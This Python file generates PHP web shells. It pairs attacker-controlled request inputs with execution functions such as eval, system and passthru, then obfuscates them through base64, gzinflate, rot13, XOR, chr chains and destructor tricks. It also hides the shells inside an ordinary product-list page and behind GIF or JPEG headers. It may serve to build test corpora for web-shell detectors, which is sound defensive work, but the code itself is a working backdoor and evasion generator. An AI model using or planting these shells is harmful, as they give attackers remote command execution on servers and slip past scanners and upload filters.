"""Web shells of our own, made by one function each: what they do, and how they hide it."""

import base64
import codecs
import itertools
import zlib
from collections.abc import Callable, Iterator

Hide = Callable[[str], str]

# What whoever asks sends, as PHP reads it.
SOURCES = (
    '$_POST["c"]',
    "$_GET['c']",
    "$_REQUEST[0]",
    '$_COOKIE["c"]',
    "$_SERVER['HTTP_X_CMD']",
    "file_get_contents('php://input')",
    "current(getallheaders())",
)
# What runs it: {} is the source.
SINKS = (
    "eval({});",
    "@assert({});",
    "system({});",
    "echo shell_exec({});",
    "$c = {}; echo `$c`;",
    "passthru({});",
    "$p = popen({}, 'r'); echo fread($p, 9999);",
    "preg_replace('/.*/e', {}, '');",
    "$f = create_function('', {}); $f();",
    "call_user_func('assert', {});",
    "array_map('system', array({}));",
    "array_filter(array({}), 'passthru');",
    "usort($a, create_function('$x', {}));",
    "register_shutdown_function('system', {});",
    "$f = 'sys' . 'tem'; $f({});",
    "$x = {}; $x($_POST['d']);",
    "eval('?>' . {});",
    "eval(base64_decode({}));",
    "file_put_contents('x.php', {});",
    "$r = new ReflectionFunction('system'); $r->invoke({});",
    "(function ($c) {{ eval($c); }})({});",
    "foreach (array({}) as $v) {{ eval($v); }}",
    "extract($_REQUEST); eval($z);",
)


def plain() -> Iterator[str]:
    """Yield every sink with every source, as one line."""
    for source, sink in itertools.product(SOURCES, SINKS):
        yield f"<?php {sink.format(source)}"


def _base64(code: str) -> str:
    return f"eval(base64_decode('{base64.b64encode(code.encode()).decode()}'));"


def _deflated(code: str) -> str:
    packed = base64.b64encode(zlib.compress(code.encode())[2:-4]).decode()
    return f"@eval(gzinflate(base64_decode('{packed}')));"


def _turned(code: str) -> str:
    text = codecs.encode(code, "rot13").replace("\\", "\\\\").replace("'", "\\'")
    return f"eval(str_rot13('{text}'));"


def _backwards(code: str) -> str:
    text = code[::-1].replace("\\", "\\\\").replace("'", "\\'")
    return f"$s = strrev('{text}'); eval($s);"


def _escaped(code: str) -> str:
    return 'eval("' + "".join(f"\\x{ord(one):02x}" for one in code) + '");'


def _letters(code: str) -> str:
    return "eval(" + ".".join(f"chr({ord(one)})" for one in code) + ");"


def _xored(code: str) -> str:
    key = "k3y!" * (len(code) // 4 + 1)
    mixed = "".join(f"\\x{ord(one) ^ ord(two):02x}" for one, two in zip(code, key, strict=False))
    return f'$k = "{key[: len(code)]}"; eval("{mixed}" ^ $k);'


def _in_pieces(code: str) -> str:
    pieces = [code[at : at + 5] for at in range(0, len(code), 5)]
    quoted = ("'" + one.replace("\\", "\\\\").replace("'", "\\'") + "'" for one in pieces)
    return "$a = array(" + ", ".join(quoted) + "); eval(implode('', $a));"


def _with_noise(code: str) -> str:
    text = "#@".join(code).replace("\\", "\\\\").replace("'", "\\'")
    return f"eval(str_replace('#@', '', '{text}'));"


def _by_loop(code: str) -> str:
    numbers = ",".join(str(ord(one) + 1) for one in code)
    return (
        f"$n = explode(',', '{numbers}'); $s = '';"
        " foreach ($n as $i) { $s .= chr($i - 1); } eval($s);"
    )


def _in_class(code: str) -> str:
    packed = base64.b64encode(code.encode()).decode()
    return (
        "class Cache { public $d; function __destruct() { eval(base64_decode($this->d)); } }"
        f" $c = new Cache; $c->d = '{packed}';"
    )


def _in_function(code: str) -> str:
    packed = base64.b64encode(code.encode()).decode()
    return f"function load($d) {{ return eval(base64_decode($d)); }} load('{packed}');"


def _by_name(code: str) -> str:
    packed = base64.b64encode(code.encode()).decode()
    return f"$d = 'base' . (32 * 2) . '_de' . 'code'; $x = $d('{packed}'); eval($x);"


def _twice(code: str) -> str:
    return _deflated(_base64(code))


HIDING: tuple[Hide, ...] = (
    _base64, _deflated, _turned, _backwards, _escaped, _letters, _xored, _in_pieces, _with_noise,
    _by_loop, _in_class, _in_function, _by_name, _twice,
)  # fmt: skip


def hidden() -> Iterator[str]:
    """Yield shells that are hidden in every way."""
    codes = [sink.format(source) for source in SOURCES[:4] for sink in SINKS[:6]]
    for number, hide in enumerate(HIDING):
        for code in codes[number % 3 :: 3]:
            yield f"<?php {hide(code)}"


PAGE = """<?php
/** Renders the list of products. */
class ProductList {
    private $items = array();
    public function add($name, $price) {
        $this->items[] = array('name' => $name, 'price' => $price);
    }
    public function total() {
        $sum = 0;
        foreach ($this->items as $item) { $sum += $item['price']; }
        return $sum;
    }
    public function render() {
        foreach ($this->items as $item) { echo htmlspecialchars($item['name']), ' '; }
    }
}
$list = new ProductList();
$page = isset($_GET['page']) ? intval($_GET['page']) : 1;
"""


def in_ordinary_code() -> Iterator[str]:
    """Yield shells within a page that does something else, before it, after it, within it."""
    for code in (sink.format(source) for source in SOURCES[:3] for sink in SINKS[:8]):
        yield PAGE + code
        yield PAGE.replace("$list = new", f"if (isset($_REQUEST['k'])) {{ {code} }}\n$list = new")
        yield f"<?php {code} ?>\n" + PAGE


def in_pictures() -> Iterator[bytes]:
    """Yield pictures with a shell behind them, and texts of other encodings."""
    for code in (sink.format(source) for source in SOURCES[:2] for sink in SINKS[:5]):
        yield b"GIF89a\x01\x00\x01\x00\x80" + bytes(range(256)) + f"<?php {code} ?>".encode()
        yield b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(60) + f"<?php {code} ?>".encode()
        yield b"\xff\xfe" + f"<?php {code}".encode("utf-16-le")
        yield b"\xef\xbb\xbf" + f"<?php {code}".encode()
        yield f"<script language='php'>{code}</script>".encode()
